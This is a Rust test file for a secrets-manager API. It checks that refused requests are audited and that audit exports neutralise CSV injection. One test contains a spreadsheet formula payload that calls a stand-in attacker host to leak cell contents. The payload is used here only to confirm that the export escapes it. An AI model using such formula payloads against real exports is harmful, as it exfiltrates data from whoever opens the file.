//! What the server writes to the audit log for requests it refuses, and how those events
//! leave the store (exports).

use coffer_api::audit::{ExportFormat, export};
use coffer_engine::{AuditEvent, AuditFilter};
use http::HeaderValue;

use crate::support::{Fixture, Reply, root, sign};

/// The audit event of the request that got `reply` (by its request id).
async fn event_of(f: &Fixture, reply: &Reply) -> Option<AuditEvent> {
    let id = reply.header("x-amzn-requestid").expect("a request id");
    let page = f
        .engine
        .query_audit(&root(), &AuditFilter::default())
        .await
        .unwrap();
    page.events.into_iter().find(|e| e.request_id == id)
}

/// The cells of an RFC 4180 document (quoted fields may hold commas, quotes and newlines).
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell) = (Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

/// The access key id of a failed login is whatever the caller put in `Credential=`, and it
/// went into the CSV export as is: `=HYPERLINK(…)` became a live formula in the
/// spreadsheet of whoever opened the export. Cells that a spreadsheet would read as a
/// formula are exported with a leading `'` (OWASP's CSV-injection advice); JSON Lines keep
/// the value exactly.
#[tokio::test]
async fn a_formula_in_a_failed_login_is_inert_in_the_csv_export() {
    let f = Fixture::start().await;
    let formula = r#"=HYPERLINK("https:evil.example?k="&A1)"#;
    let reply = f
        .send(f.api_signed(
            "GetSecretValue",
            r#"{"SecretId":"db/prod"}"#,
            formula,
            &f.secret,
            f.clock_now(),
        ))
        .await;
    assert_eq!(reply.error_code(), "UnrecognizedClientException");
    let event = event_of(&f, &reply).await.expect("the failed login");
    assert_eq!(event.access_key_id.as_deref(), Some(formula));

    let failed_logins = AuditFilter {
        action: Some("Authenticate".into()),
        ..AuditFilter::default()
    };
    let mut csv = Vec::new();
    export(
        &f.engine,
        &root(),
        &failed_logins,
        ExportFormat::Csv,
        &mut csv,
    )
    .await
    .unwrap();
    let rows = csv_cells(&String::from_utf8(csv).unwrap());
    let column = rows[0].iter().position(|c| c == "access_key_id").unwrap();
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(rows[1][column], format!("'{formula}"));
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would evaluate: {cell:?}"
        );
    }

    let mut jsonl = Vec::new();
    export(
        &f.engine,
        &root(),
        &failed_logins,
        ExportFormat::JsonLines,
        &mut jsonl,
    )
    .await
    .unwrap();
    let line: serde_json::Value = serde_json::from_slice(&jsonl).unwrap();
    assert_eq!(line["AccessKeyId"], formula);
    f.stop().await;
}

/// A signed request refused before the engine (an unknown target, a wrong content type, a
/// body that is not the action's JSON) left no trace: only the engine audited, and these
/// never reached it. Each is now an event naming the caller, its key, the action when it
/// is one, and the error code.
#[tokio::test]
async fn refused_requests_of_an_authenticated_caller_are_audited() {
    let f = Fixture::start().await;
    let signed = |req| sign(req, &f.key_id, &f.secret, "us-east-1", f.clock_now());
    let mut cases: Vec<(&str, http::Request<Vec<u8>>, &str, &str)> = Vec::new();

    let mut req = f.unsigned("GetSecretValue", "{}");
    req.headers_mut()
        .insert("x-amz-target", HeaderValue::from_static("kms.Decrypt"));
    cases.push((
        "a foreign target",
        signed(req),
        "UnknownOperationException",
        "UnknownOperation",
    ));
    let mut req = f.unsigned("GetSecretValue", "{}");
    req.headers_mut().remove("x-amz-target");
    cases.push((
        "no target",
        signed(req),
        "UnknownOperationException",
        "UnknownOperation",
    ));
    cases.push((
        "an unknown action",
        f.api("GetEverything", "{}"),
        "InvalidAction",
        "UnknownOperation",
    ));
    let mut req = f.unsigned("GetSecretValue", r#"{"SecretId":"db/prod"}"#);
    req.headers_mut()
        .insert("content-type", HeaderValue::from_static("text/plain"));
    cases.push((
        "a wrong content type",
        signed(req),
        "SerializationException",
        "GetSecretValue",
    ));
    cases.push((
        "malformed JSON",
        f.api("GetSecretValue", "{not json"),
        "SerializationException",
        "GetSecretValue",
    ));
    cases.push((
        "a member of the wrong type",
        f.api("GetSecretValue", r#"{"SecretId":7}"#),
        "SerializationException",
        "GetSecretValue",
    ));
    cases.push((
        "SecretBinary that is not base64",
        f.api(
            "PutSecretValue",
            r#"{"SecretId":"db/prod","SecretBinary":"%%%"}"#,
        ),
        "SerializationException",
        "PutSecretValue",
    ));

    for (what, req, code, action) in cases {
        let reply = f.send(req).await;
        assert_eq!(reply.status, 400, "{what}: {}", reply.text());
        assert_eq!(reply.error_code(), code, "{what}");
        let Some(event) = event_of(&f, &reply).await else {
            panic!("{what}: no audit event");
        };
        assert_eq!(event.principal, f.user_arn, "{what}");
        assert_eq!(event.access_key_id.as_deref(), Some(f.key_id.as_str()));
        assert_eq!(event.action, action, "{what}");
        assert_eq!(event.outcome, "error", "{what}");
        assert_eq!(event.error_code.as_deref(), Some(code), "{what}");
        assert_eq!(event.decision, "denied", "{what}");
        assert_eq!(event.source, "api", "{what}");
        assert_eq!(event.client_addr.as_deref(), Some("127.0.0.1"));
    }

    // A request that reaches the engine is audited once, by the engine.
    let reply = f
        .send(f.api("GetSecretValue", r#"{"SecretId":"nope"}"#))
        .await;
    let id = reply.header("x-amzn-requestid").unwrap().to_owned();
    let page = f
        .engine
        .query_audit(&root(), &AuditFilter::default())
        .await
        .unwrap();
    assert_eq!(page.events.iter().filter(|e| e.request_id == id).count(), 1);
    f.stop().await;
}
